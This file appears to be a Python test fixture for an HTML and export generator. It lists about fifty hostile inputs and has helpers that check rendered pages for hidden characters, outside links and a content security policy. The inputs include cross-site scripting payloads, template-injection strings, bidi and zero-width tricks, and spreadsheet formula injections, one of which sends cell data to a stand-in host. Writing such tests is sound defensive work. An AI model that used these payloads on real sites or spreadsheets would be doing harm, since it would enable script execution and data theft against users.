"""Fifty texts that try to be more than text; none may act, break a page or hide what it says.

One table for every input, page and export. `VISIBLE` are those a file of lines and columns can
hold; the others have line ends, tabs or NUL in them and are refused or end a line there.
"""

from html.parser import HTMLParser
from pathlib import Path

LONG = 4_000

HOSTILE: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "script-upper": "<SCRIPT SRC=https://x.example/a.js></SCRIPT>",
    "script-split": "<scr<script>ipt>alert(2)</scr</script>ipt>",
    "script-end": "</script><script>alert(3)</script>",
    "style-end": "</style><style>*{display:none}</style>",
    "title-end": "</title></head><body onload=alert(4)>",
    "textarea-end": "</textarea><plaintext>",
    "comment-end": "--><img src=x onerror=alert(5)><!--",
    "cdata-end": "]]><script>alert(6)</script>",
    "img-onerror": "<img src=x onerror=alert(7)>",
    "img-load": "<img src=https://x.example/pixel.gif>",
    "quote-handler": '" onmouseover="alert(8)" x="',
    "single-quote-handler": "' onfocus='alert(9)' autofocus='",
    "backtick-handler": "` onclick=alert(10) `",
    "details-toggle": "<details open ontoggle=alert(11)>",
    "iframe": "<iframe src=https://x.example></iframe>",
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.alert(12)</script>">',
    "object-data": "<object data=data:text/html,alert(13)></object>",
    "form": "<form action=https://x.example><input name=q autofocus><button>send</button></form>",
    "base": "<base href=https://x.example/>",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://x.example">',
    "link-style": "<link rel=stylesheet href=https://x.example/a.css>",
    "anchor-javascript": "<a href=javascript:alert(14)>open</a>",
    "javascript-url": "javascript:alert(15)",
    "data-url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxNik8L3NjcmlwdD4=",
    "svg-onload": "<svg onload=alert(17)>",
    "svg-script": "</text></svg><svg><script>alert(18)</script></svg>",
    "svg-use": '<svg><use href="https://x.example/a.svg#a"/></svg>',
    "svg-animate": "<svg><animate onbegin=alert(19) attributeName=x dur=1s>",
    "svg-foreign": "<svg><foreignObject><body onload=alert(20)></foreignObject></svg>",
    "mathml": "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(21)>",
    "jinja-expression": "{{ 7*7 }}{{ config.items() }}",
    "jinja-statement": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "python-format": "{0.__class__.__init__.__globals__}%(name)s%n${7*7}#{7*7}",
    "entity": "&lt;script&gt;alert(22)&lt;/script&gt;&#60;b&#62;&copy",
    "css-breakout": "};*{background:url(https://x.example/css)}/*",
    "css-expression": "expression(alert(23));behavior:url(x.htc)",
    "formula-command": "=cmd|' /C calc'!A0",
    "formula-link": '=HYPERLINK("https://x.example?"&A1,"open")',
    "formula-signs": "+1+1",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "right-to-left": "BRAF \u202egnp.exe\u202c p.V600E",
    "isolates": "KRAS \u2067G12\u2066D\u2069 \u061c\u200f\u200e",
    "zero-width": "EG\u200bFR\u200d\u2060\ufeff p.L858R",
    "control": "bell\x07 escape\x1b[31mred\x1b[0m delete\x7f \x85 c1\x9b31m",
    "null": "KR\x00AS <b>\x00",
    "lines": "one\r\ntwo\n\nthree\u2028four\u2029five\x0b\x0csix\ttab",
    "emoji": "🧬👩🏽‍🔬🏳️‍🌈 Z̷͇̈a̴̰͝l̶̯̓g̵͖̈́o̸͙͌ \U000e0041\U000e007f \ud83d".encode("utf-8", "ignore").decode(),
    "long": "ACGTTGCA" * (LONG // 8),
}
"""Name -> text."""

BREAKS_LINES = ("null", "lines")
VISIBLE = {name: text for name, text in HOSTILE.items() if name not in BREAKS_LINES}
UNSEEN = (
    *range(0x00, 0x09),
    0x0B,
    0x0C,
    *range(0x0E, 0x20),
    *range(0x7F, 0xA0),
    0x061C,
    0x200B,
    *range(0x200E, 0x2010),
    *range(0x2028, 0x202F),
    *range(0x2060, 0x2070),
    0xFEFF,
    *range(0xFFF9, 0xFFFC),
    *range(0xE0000, 0xE0080),
)
"""Characters that nobody sees and that change what others read; none may be on a page."""


class Skeleton(HTMLParser):
    """What a browser builds from a page: elements and attributes, without any text."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[tuple[str, ...]] = []
        self.links: list[str] = []
        self.text: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "wbr" and not attrs:  # where a line may end; it depends on the length of words
            return
        self.parts.append((tag, *(name for name, _ in attrs)))
        self.links += [v or "" for name, v in attrs if name in ("href", "src", "action", "srcset")]

    def handle_endtag(self, tag: str) -> None:
        self.parts.append((f"/{tag}",))

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.parts.append(("comment", data))

    def handle_decl(self, decl: str) -> None:
        self.parts.append((decl,))

    def handle_pi(self, data: str) -> None:
        self.parts.append(("instruction", data))


def unseen_in(page: str) -> set[str]:
    """Return the names of unseen characters on a page, written as such or as a reference."""
    import html

    characters = set(page) | set(html.unescape(page))
    return {f"U+{ord(c):04X}" for c in characters if ord(c) in UNSEEN}


def own_links(page: str) -> list[str]:
    """Return the links of a page that lead out of its own folder."""
    links = (link for link in Skeleton(page).links if not link.startswith("#"))
    return [link for link in links if ":" in link or link.startswith("//")]


def policy(page: str) -> str:
    """Return the content security policy of a page."""
    import re

    found = re.findall(r'<meta http-equiv="Content-Security-Policy"\s+content="([^"]*)">', page)
    assert len(found) == 1, "a page has one policy"
    return found[0]


def write_pages(folder: Path, pages: dict[str, str]) -> list[Path]:
    """Write pages as files and return their paths."""
    paths = []
    for name, page in pages.items():
        path = folder / f"{name}.html"
        path.write_text(page, encoding="utf-8")
        paths.append(path)
    return paths
